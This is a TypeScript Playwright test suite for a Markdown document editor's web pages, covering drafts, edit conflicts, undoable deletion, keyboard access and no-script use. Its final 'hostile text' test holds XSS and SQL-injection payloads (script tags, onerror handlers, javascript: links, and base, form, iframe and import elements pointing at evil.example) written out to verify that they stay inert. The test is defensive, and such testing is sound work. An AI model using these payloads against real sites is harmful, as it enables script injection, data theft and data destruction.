import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runningTarget } from '../support/platform.ts';
import { openBrowser, visit } from './support/browser.ts';
import { changeDocument, readDocument, saveDocument } from './support/documents.ts';

let browser: Browser;
let origin: string;

beforeAll(async () => {
  [browser, { gatewayUrl: origin }] = await Promise.all([openBrowser(), runningTarget()]);
});

afterAll(() => browser?.close());

const idIn = (page: Page): string => new URL(page.url()).pathname.split('/')[2] ?? '';
const opened = (page: Page) => page.waitForURL(/\/d\/[0-9a-f-]{36}$/);

describe.each(['v1', 'v2'])('the page of %s', (version) => {
  it('shows a text while it is written as it looks once it is saved', async () => {
    await using visitor = await visit(browser, origin, { version });
    const { page } = visitor;
    await page.goto('/');
    await page.getByLabel('Title').fill(`Written in ${version}`);
    await page.getByLabel('Text, in Markdown').pressSequentially('# One\n\nsome *words*', { delay: 5 });
    await page.locator('#rendered em', { hasText: 'words' }).waitFor();
    const previewed = await page.locator('#rendered').innerHTML();
    await page.getByRole('button', { name: 'Save' }).click();
    await opened(page);
    const shown = await page.locator('article .prose').innerHTML();
    expect(shown).toContain('<h2 id="section-1">One</h2>');
    expect(previewed).toContain(shown);
    expect(await readDocument(origin, idIn(page))).toMatchObject({ title: `Written in ${version}`, body: '# One\n\nsome *words*' });
    await page.goto('/');
    await page
      .getByRole('link', { name: `Written in ${version}`, exact: true })
      .first()
      .click();
    await opened(page);
    expect(await page.getByText(/minutes? to read/).count()).toBe(version === 'v2' ? 1 : 0);
    expect(await page.getByRole('navigation', { name: 'Contents' }).count()).toBe(version === 'v2' ? 1 : 0);
    expect(visitor.complaints).toEqual([]);
  });
});

describe('a text that is not saved', () => {
  it('is there again after a reload, in its tab, and after it is saved it is not', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    await page.goto('/');
    await page.getByLabel('Title').fill('Kept');
    await page.getByLabel('Text, in Markdown').fill('not yet saved');
    await page.reload();
    expect(await page.getByLabel('Text, in Markdown').inputValue()).toBe('not yet saved');
    await page
      .getByText(/What you typed .* is here again/)
      .first()
      .waitFor();
    await page.getByRole('button', { name: 'Save' }).click();
    await opened(page);
    await page.goto('/');
    expect(await page.getByLabel('Title').inputValue()).toBe('');
  });

  it('outlives its tab, and two tabs never write over each other', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const context = page.context();
    const other = await context.newPage();
    for (const [tab, text] of [
      [page, 'first tab'],
      [other, 'second tab'],
    ] as const) {
      await tab.goto('/');
      await tab.getByLabel('Title').fill(text);
      await tab.getByLabel('Text, in Markdown').fill(text);
    }
    await other.close({ runBeforeUnload: true });
    await page.reload();
    expect(await page.getByLabel('Title').inputValue()).toBe('first tab');
    await page.getByText(/A draft of .* is not saved: second tab/).waitFor();
    const third = await context.newPage();
    await third.goto('/');
    await third.locator('.offer', { hasText: 'second tab' }).getByRole('button', { name: 'Continue' }).click();
    expect(await third.getByLabel('Text, in Markdown').inputValue()).toBe('second tab');
    await third.locator('#rendered p', { hasText: 'second tab' }).waitFor();
    expect(await third.locator('.offer', { hasText: 'second tab' }).count()).toBe(0);
  });

  it('stays in the form with a message where the server fails, and is sent once', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    await page.goto('/');
    const title = `Once ${crypto.randomUUID()}`;
    await page.getByLabel('Title').fill(title);
    await page.getByLabel('Text, in Markdown').fill('kept through a failure');
    // The document is written, but the answer is lost on its way back.
    await page.context().setExtraHTTPHeaders({ 'x-fault': 'core=unavailable-after-commit' });
    await page.keyboard.press('Control+s');
    await page.getByRole('alert').filter({ hasText: 'Not saved: core cannot answer now. Try again in a second.' }).waitFor();
    expect(await page.getByLabel('Text, in Markdown').inputValue()).toBe('kept through a failure');
    await page.context().setOffline(true);
    await page.keyboard.press('Control+s');
    await page.getByRole('alert').filter({ hasText: 'this device is offline' }).waitFor();
    await page.context().setOffline(false);
    await page.context().setExtraHTTPHeaders({});
    await page.keyboard.press('Control+s');
    await opened(page);
    const { items } = (await (await fetch(`${origin}/api/documents?limit=100`)).json()) as { items: { title: string }[] };
    expect(items.filter((item) => item.title === title)).toHaveLength(1);
  });
});

describe('a change that meets another one', () => {
  /** A user edits, and meanwhile another user saves. */
  async function meet(page: Page): Promise<string> {
    const { id } = await saveDocument(origin, 'Shared', 'one\n\ntwo\n\nthree');
    await page.goto(`/d/${id}/edit`);
    await page.getByLabel('Text, in Markdown').fill('one\n\nmine\n\nthree');
    await changeDocument(origin, id, 1, { title: 'Shared', body: 'one\n\ntheirs\n\nthree' });
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('heading', { name: 'Another user changed this document while you wrote' }).waitFor();
    const marks = await page.locator('.sides mark').allTextContents();
    expect(marks).toEqual(['theirs', 'mine']);
    expect(await readDocument(origin, id)).toMatchObject({ body: 'one\n\ntheirs\n\nthree' });
    return id;
  }

  it('is shown next to it, and mine can be kept', async () => {
    await using visitor = await visit(browser, origin);
    const id = await meet(visitor.page);
    expect(await visitor.page.evaluate('document.activeElement.id')).toBe('conflict-heading');
    await visitor.page.getByRole('button', { name: 'Keep mine' }).click();
    await opened(visitor.page);
    expect(await readDocument(origin, id)).toMatchObject({ body: 'one\n\nmine\n\nthree', revision: 3 });
    expect(visitor.complaints).toEqual([]);
  });

  it('can give way to theirs', async () => {
    await using visitor = await visit(browser, origin);
    const id = await meet(visitor.page);
    await visitor.page.getByRole('link', { name: 'Take theirs' }).click();
    await opened(visitor.page);
    expect(await readDocument(origin, id)).toMatchObject({ body: 'one\n\ntheirs\n\nthree', revision: 2 });
    await visitor.page.goto(`/d/${id}/edit`);
    expect(await visitor.page.getByLabel('Text, in Markdown').inputValue()).toBe('one\n\ntheirs\n\nthree');
  });

  it('can be merged by hand from a text that has every line of both', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const id = await meet(page);
    await page.getByRole('button', { name: 'Put both texts into the form' }).click();
    await page.getByRole('alert').filter({ hasText: 'Both texts are in the form' }).waitFor();
    expect(await page.getByLabel('Text, in Markdown').inputValue()).toBe('one\n\ntheirs\nmine\n\nthree');
    await page.getByRole('button', { name: 'Save' }).click();
    await opened(page);
    expect(await readDocument(origin, id)).toMatchObject({ body: 'one\n\ntheirs\nmine\n\nthree', revision: 3 });
  });
});

describe('a deletion', () => {
  const statusOf = async (id: string) => (await fetch(`${origin}/api/documents/${id}`)).status;

  it('can be undone, which leaves the very same document', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const { id, title } = await saveDocument(origin, `Undone ${crypto.randomUUID()}`);
    await page.goto(`/d/${id}`);
    await page.getByRole('link', { name: `Delete ${title}` }).click();
    await page.getByRole('button', { name: 'Undo' }).click();
    await page.getByRole('link', { name: title, exact: true }).waitFor();
    expect(await readDocument(origin, id)).toMatchObject({ id, title, revision: 1 });
    await page.reload();
    expect(await page.getByRole('button', { name: 'Undo' }).count()).toBe(0);
  });

  it('does not happen where the tab is closed, and can still be undone where the page is opened again', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const { id, title } = await saveDocument(origin, `Closed ${crypto.randomUUID()}`);
    await page.goto('/');
    await page.getByRole('link', { name: `Delete ${title}` }).click();
    await page.getByRole('button', { name: 'Undo' }).waitFor();
    const later = await page.context().newPage();
    await page.close();
    expect(await statusOf(id)).toBe(200);
    await later.goto('/');
    await later.getByRole('button', { name: 'Undo' }).waitFor();
    expect(await later.getByRole('link', { name: title, exact: true }).count()).toBe(0);
    await expect.poll(() => statusOf(id), { timeout: 30_000, interval: 500 }).toBe(404);
  }, 180_000);

  it('does not delete a document that another user changed meanwhile', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const { id, title } = await saveDocument(origin, `Changed ${crypto.randomUUID()}`);
    await page.goto('/');
    await page.getByRole('link', { name: `Delete ${title}` }).click();
    await changeDocument(origin, id, 1, { title, body: 'changed' });
    await page.locator('body').click({ position: { x: 5, y: 5 } }); // the toast waits for who is at its button
    await page.getByText('another user changed it meanwhile').first().waitFor({ timeout: 30_000 });
    expect(await readDocument(origin, id)).toMatchObject({ body: 'changed' });
  }, 180_000);
});

describe('by keyboard only', () => {
  it('a document is written, saved, changed and deleted, and no field traps the focus', async () => {
    await using visitor = await visit(browser, origin);
    const { page } = visitor;
    const title = `Keys ${crypto.randomUUID()}`;
    const focused = () => page.evaluate('document.activeElement.textContent.trim() || document.activeElement.id') as Promise<string>;
    const tabTo = async (name: RegExp | string) => {
      for (let presses = 0; presses < 40; presses++) {
        await page.keyboard.press('Tab');
        if ((await focused()).match(name)) return;
      }
      throw new Error(`Tab does not lead to ${name}; it led to ${await focused()}`);
    };
    await page.goto('/');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('Skip to the content');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('title');
    await page.keyboard.type(title);
    await page.keyboard.press('Tab');
    expect(await focused()).toBe('body');
    await page.keyboard.type('typed');
    await tabTo('Save');
    await page.keyboard.press('Enter');
    await opened(page);
    const id = idIn(page);
    await tabTo('Edit');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/edit$/);
    await tabTo(/^body$|^typed$/);
    await page.keyboard.press('Control+End');
    await page.keyboard.type(' more');
    await page.keyboard.press('Control+s');
    await opened(page);
    expect(await readDocument(origin, id)).toMatchObject({ title, body: 'typed more' });
    await page.goto('/');
    await tabTo(title);
    await tabTo('Delete');
    await page.keyboard.press('Enter');
    expect(await focused()).toBe('Undo');
    await page.keyboard.press('Enter');
    expect(await focused()).toBe(title);
    expect(await readDocument(origin, id)).toMatchObject({ title });
  }, 180_000);
});

describe('without scripts', () => {
  it('a document is read, written, changed while another user changes it, and deleted with an undo', async () => {
    await using visitor = await visit(browser, origin, { javaScriptEnabled: false });
    const { page } = visitor;
    const title = `Plain ${crypto.randomUUID()}`;
    await page.goto('/');
    await page.getByLabel('Title').fill(title);
    await page.getByLabel('Text, in Markdown').fill('\nfirst\nsecond');
    await page.getByRole('button', { name: 'Save' }).click();
    await opened(page);
    const id = idIn(page);
    expect(await page.locator('article').innerText()).toContain('first');
    expect(await readDocument(origin, id)).toMatchObject({ title, body: '\nfirst\nsecond' });
    await page.getByRole('link', { name: 'Edit', exact: true }).click();
    expect(await page.getByLabel('Text, in Markdown').inputValue()).toBe('\nfirst\nsecond');
    await changeDocument(origin, id, 1, { title, body: 'theirs' });
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('button', { name: 'Keep mine' }).click();
    await opened(page);
    expect(await readDocument(origin, id)).toMatchObject({ body: '\nfirst\nsecond', revision: 3 });
    await page.getByRole('link', { name: `Delete ${title}` }).click();
    await page.getByRole('button', { name: 'Delete' }).click();
    await expect(readDocument(origin, id)).rejects.toThrow('404');
    await page.getByRole('button', { name: 'Undo' }).click();
    await opened(page);
    expect(await readDocument(origin, idIn(page))).toMatchObject({ title, body: '\nfirst\nsecond' });
  }, 180_000);
});

describe('hostile text', () => {
  it('in every field is text wherever the page shows it: no script runs, and no request leaves the origin', async () => {
    const attack = `"><script>alert(1)</script><img src=//evil.example/x onerror=alert(2)>'); DROP TABLE documents; --`;
    const body = [
      attack,
      `# ${attack}`,
      '[a](javascript:alert(3)) [b](data:text/html,<script>alert(4)</script>) ![c](https://evil.example/c.png) <svg/onload=alert(5)>',
      `\`\`\`html\n${attack}</code></pre><script>alert(6)</script>\n\`\`\``,
      `\`\`\`"onmouseover="alert(7)\nx\n\`\`\``,
      '<style>@import "//evil.example/s.css"</style><base href="//evil.example/"><form action="//evil.example/"><input name=body>',
      '| a |\n|---|\n| <iframe src=//evil.example></iframe> |',
    ].join('\n\n');
    for (const version of ['v1', 'v2']) {
      await using visitor = await visit(browser, origin, { version });
      const { page } = visitor;
      await page.goto('/');
      await page.getByLabel('Title').fill(attack);
      await page.getByLabel('Text, in Markdown').fill(body);
      await page.locator('#rendered h2').waitFor();
      await page.getByRole('button', { name: 'Save' }).click();
      await opened(page);
      const id = idIn(page);
      expect(await readDocument(origin, id)).toMatchObject({ title: attack, body });
      expect(await page.locator('h1').innerText()).toBe(attack);
      const dangerous =
        'article :is(script, img, svg, style, base, form, iframe, input), article [onerror], article [onmouseover], [href^="javascript:" i]';
      expect(await page.locator(dangerous).count()).toBe(0);
      await page.goto(`/d/${id}/edit`);
      expect(await page.getByLabel('Text, in Markdown').inputValue()).toBe(body);
      await page.getByLabel('Text, in Markdown').fill(`${body}\n\nmine`);
      await changeDocument(origin, id, 1, { title: attack, body: `${body}\n\ntheirs` });
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByRole('heading', { name: 'Another user changed' }).waitFor();
      await page.goto('/');
      await page
        .getByRole('link', { name: `Delete ${attack}` })
        .first()
        .click();
      await page.getByRole('button', { name: 'Undo' }).first().click();
      await page.goto(`/?cursor=${encodeURIComponent(attack)}`);
      await page.goto(`/d/${encodeURIComponent(attack)}`);
      expect(visitor.complaints).toEqual([]);
    }
  }, 180_000);
});
